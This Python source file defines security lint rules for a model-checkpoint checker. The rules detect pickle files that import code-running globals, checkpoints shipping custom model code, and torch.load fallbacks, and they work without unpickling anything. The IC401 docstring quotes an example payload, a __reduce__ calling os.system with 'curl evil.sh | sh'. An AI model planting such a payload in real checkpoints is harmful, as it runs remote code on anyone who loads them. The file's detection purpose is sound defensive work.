"""Untrusted checkpoints: pickles that would run code, and custom model code.

The loader measures (the globals each pickle imports, the files it refused, auto_map and
``*.py`` files); these rules judge. They never open a file.
"""

from fnmatch import fnmatchcase

from ..loader.pickle_scan import is_allowed
from . import rule


def _file_finding(ctx, rel, message, value=None, expected=None, severity=None):
    f = ctx.finding(None, message, value=value, expected=expected, severity=severity)
    f.file = rel
    return f


@rule("IC401", "unsafe-pickle-global", "error", options=("safe_globals", "side_file_globals", "allow", "dangerous"), scope="model")
def unsafe_pickle_global(ctx):
    """A pickle file imports a function that can run code (e.g. `os.system`).

    ## What it does
    Reads the pickle opcode stream of every file in the model folder that is, or holds, a pickle
    (recognised by content: torch archives, legacy torch files, bare pickles whatever their name,
    `.npy`/`.npz` object arrays, pickles inside zip members) *without unpickling it* and lists the
    globals it imports (`GLOBAL`, `STACK_GLOBAL`, `INST`). A weight file that imports anything
    outside `safe_globals` (what `torch.load(weights_only=True)` accepts) is reported and **not
    loaded**: its tensors are absent from the check. Other pickles in the folder
    (`training_args.bin`, `optimizer.pt`, `rng_state.pth`, a `.pkl`) are never loaded; they are
    reported when they import anything outside `safe_globals` + `side_file_globals` + `allow`, or a
    `dangerous` global. A file that holds a pickle but cannot be scanned (malformed, over a limit
    of the rule pack's `[scan]` table) is reported as a warning.

    ## Why is this bad?
    Unpickling calls whatever the file names: a `__reduce__` returning
    `(os.system, ("curl evil.sh | sh",))` runs a shell command the moment someone calls
    `torch.load(path, weights_only=False)`, an old transformers, or a training script that
    resumes from `training_args.bin`. A tensor checkpoint needs no such call.

    ## Example
    `pytorch_model.bin` imports `posix.system` (how `os.system` is pickled on Linux).

    ## Use instead
    Do not load the file. Ask its author for a safetensors export, or re-export it yourself in a
    sandbox: `torch.load(path, weights_only=True)` then `safetensors.torch.save_file(sd, out)`.

    ## Options
    - `safe_globals`: globals a weight file may import (exact names).
    - `side_file_globals`: what a pickle that is not loaded may import on top (exact names).
    - `allow`: your additions to `safe_globals` (exact names or fnmatch patterns).
    - `dangerous`: fnmatch patterns reported in pickles that initcheck does not load.
    """
    ckpt = ctx.scan.checkpoint
    if ckpt is None:
        return
    safe = list(ctx.opt("safe_globals")) + list(ctx.opt("allow"))
    side = safe + list(ctx.opt("side_file_globals"))
    unscanned = getattr(ckpt, "unscanned", {})
    for rel, names in sorted(getattr(ckpt, "pickle_globals", {}).items()):
        loaded = rel in ckpt.readers
        if loaded:
            bad = [g for g in names if not is_allowed(g, safe)]
            how = getattr(ckpt.readers[rel], "reader", "initcheck")
            what = ("not loaded: its tensors are absent from this check" if rel in ckpt.refused
                    else "read by initcheck's restricted reader" if how == "initcheck" else "loaded with torch.load(weights_only=True)")
        else:
            bad = [g for g in names if not is_allowed(g, side) or any(fnmatchcase(g, p) for p in ctx.opt("dangerous"))]
            what = "initcheck does not load this file; nothing should"
        if bad:
            shown = ", ".join(bad[:5]) + (f" and {len(bad) - 5} more" if len(bad) > 5 else "")
            # TorchScript archives pickle their scripted module classes as __torch__.*: a program, not a state dict
            script = ("; it is a TorchScript archive (model code inside): check its model.state_dict() instead"
                      if any(g.startswith("__torch__.") for g in bad) else "")
            yield _file_finding(ctx, rel, f"{rel} imports {shown} when unpickled, outside the tensor-rebuild "
                                          f"allowlist ({what}){script}", value=", ".join(bad)[:300],
                                expected="allowlisted globals only")
    for rel, why in sorted(unscanned.items()):
        yield _file_finding(ctx, rel, f"{rel} could not be scanned for pickles ({why}); it was not loaded: treat it "
                                      "as unsafe and do not unpickle it", value=why[:300], expected="a scannable file",
                            severity="warning")


@rule("IC402", "custom-model-code", "warning", scope="model")
def custom_model_code(ctx):
    """The checkpoint ships its own Python code (auto_map or *.py files).

    ## What it does
    Reports `auto_map` entries in config.json / adapter_config.json and `*.py` files in the
    model folder. initcheck never imports them; transformers would only with
    `trust_remote_code=True` (initcheck passes it only when you give `--trust-remote-code`).

    ## Why is this bad?
    `trust_remote_code=True` runs that code with your permissions at load time, in every job
    that loads the model. A checkpoint from a vendor or a hub mirror can hide anything there,
    and a model that needs custom code is also pinned to that code's version.

    ## Example
    config.json has `"auto_map": {"AutoModel": "modeling_evil.EvilModel"}` and the folder holds
    `modeling_evil.py`.

    ## Use instead
    Read the code before passing `--trust-remote-code` (or `trust_remote_code=True`), pin the
    revision, or use an architecture that transformers ships natively.
    """
    ckpt = ctx.scan.checkpoint
    code = getattr(ckpt, "custom_code", None) if ckpt is not None else None
    if not code:
        return
    parts = []
    if code.get("auto_map"):
        am = code["auto_map"]
        parts.append("auto_map " + ", ".join(f"{k} -> {v}" for k, v in list(am.items())[:4])
                     + (f" (+{len(am) - 4})" if len(am) > 4 else ""))
    if code.get("python_files"):
        py = code["python_files"]
        parts.append("Python files " + ", ".join(py[:5]) + (f" (+{len(py) - 5})" if len(py) > 5 else ""))
    yield ctx.finding(None, "custom model code: " + "; ".join(parts) + " (not imported; transformers runs it only "
                      "with trust_remote_code)", value=len(code.get("auto_map", {})) + len(code.get("python_files", [])))


@rule("IC403", "torch-load-fallback", "info", scope="model")
def torch_load_fallback(ctx):
    """A pickle weight file that initcheck's own reader handed to `torch.load(weights_only=True)`.

    ## What it does
    Every `.bin` / `.pt` / `.pth` / `.ckpt` weight file is read by initcheck's own restricted
    reader, without torch: its pickle is interpreted with the tensor-rebuild globals only, and
    each tensor is a memory-mapped view of the stored bytes. Layouts that reader does not know
    (compressed zip members, fp8 "fnuz" storages, storage classes outside the list) are handed
    to `torch.load(weights_only=True)` on a torch new enough to be safe (>= 2.10); this rule
    names each such file and why, so a report says which path read it. With
    `INITCHECK_NO_TORCH_LOAD=1` those files are refused instead.

    Harmless look-alike: files read by initcheck's own reader (the JSON file table's
    `reader: "initcheck"`) are not reported.

    ## Why is this bad?
    It is not a defect: `torch.load` loads the whole file into memory (slower, and memory grows
    with the checkpoint), and it is torch's unpickler, not initcheck's, that met the file.

    ## Example
    `ckpt.pt: read with torch.load(weights_only=True): initcheck's reader does not know
    compressed storage records`.

    ## Use instead
    Re-save the file uncompressed with `torch.save`, or as safetensors.
    """
    ckpt = ctx.scan.checkpoint
    for rel, reader in sorted((getattr(ckpt, "readers", None) or {}).items()):
        if getattr(reader, "reader", None) == "torch.load":
            f = ctx.finding(None, f"{rel}: read with torch.load(weights_only=True): initcheck's reader does not "
                                  f"know {reader.fallback_reason}")
            f.file = rel
            yield f
